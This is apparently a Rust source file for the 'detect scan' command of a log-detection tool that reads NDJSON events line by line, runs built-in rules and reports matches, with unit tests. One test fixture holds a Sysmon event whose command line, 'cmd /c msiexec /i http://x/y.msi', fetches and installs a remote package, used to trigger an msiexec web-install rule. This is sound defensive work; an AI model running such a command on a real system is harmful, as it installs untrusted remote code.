//! `detect scan`: reading NDJSON inputs and running the built-in rules on
//! every line.
//!
//! The per-line path is allocation-free once the buffers have grown to the
//! size of the lines: one `Vec<u8>` receives each line (`read_until`), one
//! [`JsonEvent`] parses it into its reused tape, and [`Builtin::scan`] calls
//! back for each match. Only reporting a match (see [`crate::output`])
//! formats text.
//!
//! Bad input never stops a scan: a malformed line is reported on stderr as
//! `detect: FILE:LINE: ...` and skipped; an input that cannot be opened or read
//! is reported as `detect: FILE: ...` and the scan goes on with the next one.
//! Both are counted in [`Stats`]; unreadable inputs make the exit status 2.

use std::fs::File;
use std::io::{self, BufRead, BufReader, IsTerminal, Read, Write};
use std::path::Path;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use detect::{JsonEvent, RuleInfo};
use detect_rules::Builtin;

use crate::cli::{Format, ScanArgs};
use crate::fields::push_sanitized;
use crate::output::{JsonlSink, TableSink};

/// Size of the read buffer of each input file.
const READ_BUFFER: usize = 256 * 1024;

/// Name used in reports for the standard input (`-` on the command line).
pub(crate) const STDIN_NAME: &str = "<stdin>";

/// One rule matching one event, as handed to a [`Sink`].
pub(crate) struct Match<'a> {
    /// The rule that fired.
    pub(crate) rule: &'static RuleInfo,
    /// The event it fired on (valid until the next line is parsed).
    pub(crate) event: &'a JsonEvent,
    /// The input's name as shown in reports.
    pub(crate) file: &'a str,
    /// 1-based line number of the event in its input.
    pub(crate) line: u64,
}

/// Where matches and the final summary go (table or JSON lines).
pub(crate) trait Sink {
    /// Reports one match. An error means the output is gone and the scan stops.
    fn on_match(&mut self, m: &Match<'_>) -> io::Result<()>;

    /// Reports the end of the scan: the summary unless `quiet`, then flushes.
    fn finish(&mut self, stats: &Stats, quiet: bool) -> io::Result<()>;
}

/// Counters of one run.
#[derive(Debug, Clone, Default, PartialEq)]
pub(crate) struct Stats {
    /// Events parsed and scanned.
    pub(crate) events: u64,
    /// Rule matches, over all rules.
    pub(crate) matches: u64,
    /// Lines skipped because they were not a JSON object (or too long).
    pub(crate) malformed: u64,
    /// Inputs that could not be opened, or failed while being read.
    pub(crate) unreadable: u64,
    /// Matches per rule, indexed by [`RuleInfo::index`].
    pub(crate) per_rule: Vec<u64>,
    /// Wall-clock time of the scan, reading included.
    pub(crate) elapsed: Duration,
}

/// Reads inputs line by line and scans each event, reusing its buffers.
pub(crate) struct Scanner {
    /// The current event; its buffers are reused for every line.
    event: JsonEvent,
    /// The current line, as read (reused).
    line: Vec<u8>,
    /// Lines longer than this are skipped without being buffered whole.
    max_line_bytes: u64,
    /// What has been seen so far.
    pub(crate) stats: Stats,
}

impl Scanner {
    /// A scanner that skips (and reports) lines longer than `max_line_bytes`.
    pub(crate) fn new(max_line_bytes: u64) -> Self {
        Scanner {
            event: JsonEvent::new(),
            line: Vec::new(),
            max_line_bytes,
            stats: Stats {
                per_rule: vec![0; Builtin::RULES.len()],
                ..Stats::default()
            },
        }
    }

    /// Scans the file at `path` (stdin for `-`), shown as `name` in reports.
    /// Problems with the input go to `diag`; the error is the sink's.
    pub(crate) fn scan_path(
        &mut self,
        path: &Path,
        name: &str,
        sink: &mut dyn Sink,
        diag: &mut dyn Write,
    ) -> io::Result<()> {
        if path.as_os_str() == "-" {
            return self.scan_reader(io::stdin().lock(), name, sink, diag);
        }
        match File::open(path) {
            Ok(file) => self.scan_reader(
                BufReader::with_capacity(READ_BUFFER, file),
                name,
                sink,
                diag,
            ),
            Err(e) => {
                self.stats.unreadable += 1;
                let _ = writeln!(
                    diag,
                    "detect: {name}: cannot open: {e}; skipping this input"
                );
                Ok(())
            }
        }
    }

    /// Scans every line of `reader`. Input errors are reported on `diag` and
    /// counted; the returned error is the sink's (the output is gone).
    pub(crate) fn scan_reader<R: BufRead>(
        &mut self,
        mut reader: R,
        name: &str,
        sink: &mut dyn Sink,
        diag: &mut dyn Write,
    ) -> io::Result<()> {
        let mut line_no = 0u64;
        // One byte more than allowed, to tell "exactly the limit" from "over it".
        let take = self.max_line_bytes.saturating_add(1);
        loop {
            self.line.clear();
            let read = Read::take(&mut reader, take).read_until(b'\n', &mut self.line);
            match read {
                Ok(0) => return Ok(()),
                Ok(_) => line_no += 1,
                Err(e) => {
                    self.unreadable(name, line_no, &e, diag);
                    return Ok(());
                }
            }
            if self.line.last() != Some(&b'\n') && self.line.len() as u64 > self.max_line_bytes {
                self.stats.malformed += 1;
                let _ = writeln!(
                    diag,
                    "detect: {name}:{line_no}: line is longer than {} bytes; skipped \
                     (raise the limit with --max-line-bytes)",
                    self.max_line_bytes
                );
                if let Err(e) = reader.skip_until(b'\n') {
                    self.unreadable(name, line_no, &e, diag);
                    return Ok(());
                }
                continue;
            }
            self.scan_line(name, line_no, sink, diag)?;
        }
    }

    /// Parses and scans the line in `self.line`.
    fn scan_line(
        &mut self,
        name: &str,
        line_no: u64,
        sink: &mut dyn Sink,
        diag: &mut dyn Write,
    ) -> io::Result<()> {
        let line = trim_line_end(&self.line);
        if line.iter().all(u8::is_ascii_whitespace) {
            return Ok(());
        }
        if let Err(e) = self.event.parse(line) {
            self.stats.malformed += 1;
            let _ = writeln!(
                diag,
                "detect: {name}:{line_no}: not a valid JSON object at byte {}: {}; line skipped",
                e.offset, e.message
            );
            return Ok(());
        }
        self.stats.events += 1;
        let event = &self.event;
        let stats = &mut self.stats;
        let mut result = Ok(());
        Builtin::scan(event, |rule| {
            stats.matches += 1;
            if let Some(count) = stats.per_rule.get_mut(rule.index) {
                *count += 1;
            }
            if result.is_ok() {
                result = sink.on_match(&Match {
                    rule,
                    event,
                    file: name,
                    line: line_no,
                });
            }
        });
        result
    }

    /// Counts and reports an input that failed while being read.
    fn unreadable(&mut self, name: &str, line_no: u64, e: &io::Error, diag: &mut dyn Write) {
        self.stats.unreadable += 1;
        let _ = if line_no == 0 {
            writeln!(
                diag,
                "detect: {name}: cannot read: {e}; skipping this input"
            )
        } else {
            writeln!(
                diag,
                "detect: {name}: read error after line {line_no}: {e}; \
                 skipping the rest of this input"
            )
        };
    }
}

/// The line without its trailing `\n` or `\r\n`.
fn trim_line_end(line: &[u8]) -> &[u8] {
    let line = line.strip_suffix(b"\n").unwrap_or(line);
    line.strip_suffix(b"\r").unwrap_or(line)
}

/// How an input is named in reports: as given (lossily decoded, control
/// characters replaced so that reports stay one line each), or
/// [`STDIN_NAME`] for `-`.
pub(crate) fn display_name(path: &Path) -> String {
    if path.as_os_str() == "-" {
        return STDIN_NAME.to_string();
    }
    let mut name = String::new();
    push_sanitized(&mut name, &path.to_string_lossy());
    name
}

/// Runs `detect scan`: scans every input, then prints the summary. Returns
/// exit status 2 if an input could not be read or the output failed, else 0.
pub(crate) fn run(args: &ScanArgs) -> ExitCode {
    let names: Vec<String> = args.files.iter().map(|p| display_name(p)).collect();
    let stdout = io::stdout();
    // Stdout is line-buffered; on a terminal that keeps matches and stderr
    // reports in order, elsewhere a big buffer is much faster.
    let out: Box<dyn Write> = if stdout.is_terminal() {
        Box::new(stdout.lock())
    } else {
        Box::new(io::BufWriter::with_capacity(64 * 1024, stdout.lock()))
    };
    let mut sink: Box<dyn Sink> = match args.format {
        Format::Table => Box::new(TableSink::new(out, &names)),
        Format::Jsonl => Box::new(JsonlSink::new(out, Box::new(io::stderr()))),
    };
    let mut diag = io::stderr().lock();
    let mut scanner = Scanner::new(args.max_line_bytes);
    let start = Instant::now();
    let mut result = Ok(());
    for (path, name) in args.files.iter().zip(&names) {
        result = scanner.scan_path(path, name, &mut *sink, &mut diag);
        if result.is_err() {
            break;
        }
    }
    scanner.stats.elapsed = start.elapsed();
    let result = result.and_then(|()| sink.finish(&scanner.stats, args.quiet));
    match result {
        Ok(()) => {}
        // The reader of our output went away (`detect scan ... | head`): not an error.
        Err(e) if e.kind() == io::ErrorKind::BrokenPipe => {}
        Err(e) => {
            let _ = writeln!(
                diag,
                "detect: cannot write the output: {e}; check the disk or the pipe"
            );
            return ExitCode::from(2);
        }
    }
    if scanner.stats.unreadable > 0 {
        ExitCode::from(2)
    } else {
        ExitCode::SUCCESS
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Records matches as (line, rule name).
    #[derive(Default)]
    struct Collect(Vec<(u64, &'static str)>);

    impl Sink for Collect {
        fn on_match(&mut self, m: &Match<'_>) -> io::Result<()> {
            self.0.push((m.line, m.rule.name));
            Ok(())
        }
        fn finish(&mut self, _: &Stats, _: bool) -> io::Result<()> {
            Ok(())
        }
    }

    const HIT: &str = r#"{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "CommandLine": "cmd /c msiexec /i http://x/y.msi"}"#;

    fn scan(input: &[u8], max_line_bytes: u64) -> (Vec<(u64, &'static str)>, Stats, String) {
        let mut scanner = Scanner::new(max_line_bytes);
        let mut sink = Collect::default();
        let mut diag = Vec::new();
        scanner
            .scan_reader(input, "mem", &mut sink, &mut diag)
            .unwrap();
        (sink.0, scanner.stats, String::from_utf8(diag).unwrap())
    }

    #[test]
    fn lines_are_numbered_from_one_and_blank_lines_skipped() {
        let input = format!("{HIT}\r\n\n   \r\n{{\"a\": 1}}\n{HIT}");
        let (hits, stats, diag) = scan(input.as_bytes(), 1 << 20);
        assert_eq!(
            hits,
            [(1, "msiexec_web_install"), (5, "msiexec_web_install")]
        );
        assert_eq!((stats.events, stats.matches, stats.malformed), (3, 2, 0));
        assert_eq!(stats.per_rule.iter().sum::<u64>(), 2);
        assert_eq!(diag, "");
    }

    #[test]
    fn malformed_lines_are_reported_and_skipped() {
        let mut bytes = b"{\"a\": \n[1]\n\xff{}\n".to_vec();
        bytes.extend_from_slice(HIT.as_bytes());
        let (hits, stats, diag) = scan(&bytes, 1 << 20);
        assert_eq!(hits, [(4, "msiexec_web_install")]);
        assert_eq!((stats.events, stats.malformed), (1, 3));
        let lines: Vec<&str> = diag.lines().collect();
        assert_eq!(lines.len(), 3, "{diag}");
        assert!(
            lines[0].starts_with("detect: mem:1: not a valid JSON object at byte "),
            "{diag}"
        );
        assert!(lines[1].starts_with("detect: mem:2: "), "{diag}");
        assert!(
            lines[2].contains("mem:3:") && lines[2].contains("invalid UTF-8"),
            "{diag}"
        );
    }

    #[test]
    fn overlong_lines_are_skipped_whole() {
        let long = format!("{{\"CommandLine\": \"{}\"}}", "x".repeat(100));
        let input = format!("{long}\n{HIT}\n{long}");
        let (hits, stats, diag) = scan(input.as_bytes(), HIT.len() as u64);
        assert_eq!(hits, [(2, "msiexec_web_install")]);
        assert_eq!((stats.events, stats.malformed), (1, 2));
        assert!(
            diag.starts_with("detect: mem:1: line is longer than"),
            "{diag}"
        );
        assert!(
            diag.contains("mem:3:") && diag.contains("--max-line-bytes"),
            "{diag}"
        );

        // A line of exactly the limit (newline not counted) is accepted.
        let (hits, _, diag) = scan(format!("{HIT}\n{HIT}").as_bytes(), HIT.len() as u64);
        assert_eq!(hits.len(), 2, "{diag}");
    }

    #[test]
    fn read_errors_count_the_input_as_unreadable() {
        struct Failing(usize);
        impl Read for Failing {
            fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
                if self.0 == 0 {
                    return Err(io::Error::other("disk on fire"));
                }
                self.0 -= 1;
                let line = format!("{HIT}\n");
                buf[..line.len()].copy_from_slice(line.as_bytes());
                Ok(line.len())
            }
        }
        let mut scanner = Scanner::new(1 << 20);
        let mut sink = Collect::default();
        let mut diag = Vec::new();
        let reader = BufReader::with_capacity(4096, Failing(2));
        scanner
            .scan_reader(reader, "f", &mut sink, &mut diag)
            .unwrap();
        assert_eq!(sink.0.len(), 2);
        assert_eq!(scanner.stats.unreadable, 1);
        let diag = String::from_utf8(diag).unwrap();
        assert!(
            diag.starts_with("detect: f: read error after line 2: disk on fire"),
            "{diag}"
        );
    }

    #[test]
    fn missing_file_is_reported() {
        let mut scanner = Scanner::new(1 << 20);
        let mut diag = Vec::new();
        let path = Path::new("/nonexistent/detect-cli/events.ndjson");
        scanner
            .scan_path(
                path,
                &display_name(path),
                &mut Collect::default(),
                &mut diag,
            )
            .unwrap();
        assert_eq!(scanner.stats.unreadable, 1);
        let diag = String::from_utf8(diag).unwrap();
        assert!(
            diag.starts_with("detect: /nonexistent/detect-cli/events.ndjson: cannot open: "),
            "{diag}"
        );
    }

    /// Counts this thread's heap allocations (the test binary's allocator).
    mod counting {
        use std::alloc::{GlobalAlloc, Layout, System};
        use std::cell::Cell;

        thread_local! {
            static ALLOCATIONS: Cell<u64> = const { Cell::new(0) };
        }

        fn bump() {
            let _ = ALLOCATIONS.try_with(|c| c.set(c.get() + 1));
        }

        /// The system allocator, counting allocations per thread.
        pub(super) struct Counting;

        // SAFETY: every call is forwarded unchanged to the system allocator.
        unsafe impl GlobalAlloc for Counting {
            unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
                bump();
                // SAFETY: same contract as the caller's.
                unsafe { System.alloc(layout) }
            }
            unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
                bump();
                // SAFETY: same contract as the caller's.
                unsafe { System.alloc_zeroed(layout) }
            }
            unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
                bump();
                // SAFETY: same contract as the caller's.
                unsafe { System.realloc(ptr, layout, new_size) }
            }
            unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
                // SAFETY: same contract as the caller's.
                unsafe { System.dealloc(ptr, layout) }
            }
        }

        #[global_allocator]
        static GLOBAL: Counting = Counting;

        /// Allocations made by this thread so far.
        pub(super) fn allocations() -> u64 {
            ALLOCATIONS.with(Cell::get)
        }
    }

    #[test]
    fn scanning_does_not_allocate_once_warm() {
        /// Counts matches without allocating.
        struct Count(u64);
        impl Sink for Count {
            fn on_match(&mut self, _: &Match<'_>) -> io::Result<()> {
                self.0 += 1;
                Ok(())
            }
            fn finish(&mut self, _: &Stats, _: bool) -> io::Result<()> {
                Ok(())
            }
        }
        let example = include_str!("../../../examples/events.ndjson");
        // The example's events in all three layouts. Its malformed line is left
        // out: a parse error carries a `String` message, which allocates (an
        // error path, once per bad line).
        let events: Vec<&str> = example
            .lines()
            .filter(|l| JsonEvent::parse_str(l).is_ok())
            .collect();
        assert_eq!(events.len(), 29);
        let input = (events.join("\n") + "\n").repeat(3);
        let mut scanner = Scanner::new(1 << 20);
        let mut sink = Count(0);
        let mut diag = io::sink();
        scanner
            .scan_reader(input.as_bytes(), "warm-up", &mut sink, &mut diag)
            .unwrap();
        let before = counting::allocations();
        scanner
            .scan_reader(input.as_bytes(), "measured", &mut sink, &mut diag)
            .unwrap();
        let allocations = counting::allocations() - before;
        assert_eq!(sink.0, 2 * 3 * 13);
        assert_eq!(
            allocations,
            0,
            "allocations while scanning {} events",
            3 * 29
        );
    }

    #[test]
    fn trims_only_the_line_end() {
        assert_eq!(trim_line_end(b"a\r\n"), b"a");
        assert_eq!(trim_line_end(b"a\n"), b"a");
        assert_eq!(trim_line_end(b"a\r"), b"a");
        assert_eq!(trim_line_end(b"a\n\n"), b"a\n");
        assert_eq!(display_name(Path::new("-")), STDIN_NAME);
        assert_eq!(display_name(Path::new("a\nb.ndjson")), "a b.ndjson");
    }
}
